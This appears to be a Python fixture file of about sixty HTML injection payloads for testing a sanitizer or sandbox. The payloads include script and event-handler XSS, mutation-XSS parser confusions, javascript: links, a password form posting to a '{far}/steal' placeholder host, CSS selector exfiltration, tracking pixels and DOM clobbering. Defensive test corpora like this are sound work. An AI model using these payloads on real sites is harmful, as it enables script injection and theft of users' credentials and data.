"""HTML made to run, to fetch, to look like ours or to leave its frame. `{far}` is a server that must never be asked."""

RUN = "parent.document.title='attacked';fetch('{far}/ran');alert(1)"

PAYLOADS = {
    "a script": f"<script>{RUN}</script>",
    "a script from elsewhere": '<script src="{far}/x.js"></script>',
    "a module": '<script type="module">import "{far}/x.js"</script>',
    "an error handler": f'<img src=x onerror="{RUN}">',
    "a handler without quotes": "<img src=x onerror=fetch('{far}/ran')>",
    "a handler behind a slash": f'<img/src=x/onerror="{RUN}">',
    "a body that loads": f'<body onload="{RUN}">',
    "svg that loads": f'<svg onload="{RUN}"><circle r=9></svg>',
    "svg with a script": f"<svg><script>{RUN}</script></svg>",
    "svg that animates a link": (
        '<svg><a><animate attributeName=href values="javascript:fetch(`{far}/ran`)"/></a></svg>'
    ),
    "svg that uses": '<svg><use href="{far}/x.svg#a"/></svg>',
    "svg with a picture": '<svg><image href="{far}/x.png"/><feImage href="{far}/y.png"/></svg>',
    "svg as data": (
        '<img src="data:image/svg+xml,<svg xmlns=&quot;http://www.w3.org/2000/svg&quot;'
        f' onload=&quot;{RUN}&quot;/>">'
    ),
    "math that confuses": (
        "<math><mtext><table><mglyph><style><img src=x"
        f' onerror="{RUN}"></style></mglyph></table></mtext></math>'
    ),
    "a template in a select": f'<select><template><img src=x onerror="{RUN}"></template></select>',
    "noscript that confuses": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "a comment that confuses": f'<!--><img src=x onerror="{RUN}">-->',
    "cdata that confuses": f'<svg><![CDATA[><img src=x onerror="{RUN}">]]></svg>',
    "a textarea that confuses": f'<textarea><img title="</textarea><img src=x onerror={RUN}>"></textarea>',
    "a title that confuses": f'<title><img title="</title><img src=x onerror={RUN}>"></title>',
    "an xmp that confuses": f'<xmp><img title="</xmp><img src=x onerror={RUN}>"></xmp>',
    "plaintext": f'<plaintext><img src=x onerror="{RUN}">',
    "NULs in a tag": f'<scr\0ipt>{RUN}</scr\0ipt><img src=x on\0error="{RUN}">',
    "half of a tag": f'<img src="x" onerror="{RUN}"',
    "a script link": '<a href="javascript:fetch(`{far}/ran`)" id=go autofocus>go</a>',
    "a script link in pieces": '<a href="java&#10;script:fetch(`{far}/ran`)">go</a>',
    "a data link": '<a href="data:text/html,<script>fetch(`{far}/ran`)</script>">go</a>',
    "details that open": f'<details open ontoggle="{RUN}">x</details>',
    "focus by itself": f'<input autofocus onfocus="{RUN}">',
    "a frame": '<iframe src="{far}/frame"></iframe>',
    "a frame with its text": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "an object": '<object data="{far}/x"></object><embed src="{far}/y">',
    "an applet": '<applet code="x" archive="{far}/x.jar"></applet>',
    "a form": (
        '<form action="{far}/steal" method=post><input name=password'
        " type=password><button>Sign in</button></form>"
    ),
    "a form from a button": '<button formaction="{far}/steal">Go</button>',
    "a refresh": '<meta http-equiv="refresh" content="0;url={far}/away">',
    "a policy of its own": '<meta http-equiv="Content-Security-Policy" content="img-src *">',
    "a base": '<base href="{far}/"><a href="away">x</a><img src="pixel.png">',
    "a style from elsewhere": '<link rel=stylesheet href="{far}/x.css"><style>@import "{far}/y.css";</style>',
    "a style that fetches": (
        "<style>body{background:url({far}/bg)} p{list-style:url({far}/li)}</style><p>x</p>"
    ),
    "a style that reads": '<style>input[value^="a"]{background:url({far}/a)}</style><input value="abc">',
    "a style on a tag": '<p style="background-image:url({far}/bg);position:fixed;inset:0;z-index:9">x</p>',
    "a font": "<style>@font-face{font-family:x;src:url({far}/font)} p{font-family:x}</style><p>x</p>",
    "a pixel": '<img src="{far}/pixel.gif" width=1 height=1>',
    "a picture": '<img src="{far}/photo.png" width=300>',
    "a picture without a scheme": '<img src="//{host}/photo.png">',
    "a picture set": (
        '<img srcset="{far}/a.png 1x, {far}/b.png 2x"><picture><source srcset="{far}/c.png"></picture>'
    ),
    "a lazy picture": '<img loading=lazy src="{far}/photo.png">',
    "a background": (
        '<table background="{far}/bg"><tr><td background="{far}/bg2">x</td></tr></table><body'
        ' background="{far}/b">'
    ),
    "sound and film": (
        '<video autoplay poster="{far}/p"><source src="{far}/v"></video><audio src="{far}/a"'
        " autoplay></audio>"
    ),
    "a ping": '<a href="https://northwind.example/" ping="{far}/ping">x</a>',
    "a preload": (
        '<link rel=preload as=image href="{far}/x"><link rel=prefetch href="{far}/y"><link'
        ' rel=dns-prefetch href="//{host}">'
    ),
    "a manifest": '<link rel=manifest href="{far}/m"><link rel=icon href="{far}/i">',
    "portals and fenced frames": '<portal src="{far}/p"></portal><fencedframe src="{far}/f"></fencedframe>',
    "an id that clobbers": (
        '<a id=document></a><a id=htmx href="{far}"></a><form id=act><input name=action></form>'
    ),
    "a slot of htmx": '<div hx-get="{far}/hx" hx-trigger="load"></div><div data-text="{far}/t"></div>',
    "a dialog": '<dialog open style="position:fixed">Sign in again</dialog><div popover id=p>x</div>',
    "three thousand nested": "<div>" * 3_000 + f'<img src=x onerror="{RUN}">',
    "a mark that turns text": "\u202e<b>" + RUN + "</b>",
    "utf-7": "+ADw-script+AD4-fetch('{far}/ran')+ADw-/script+AD4-",
}
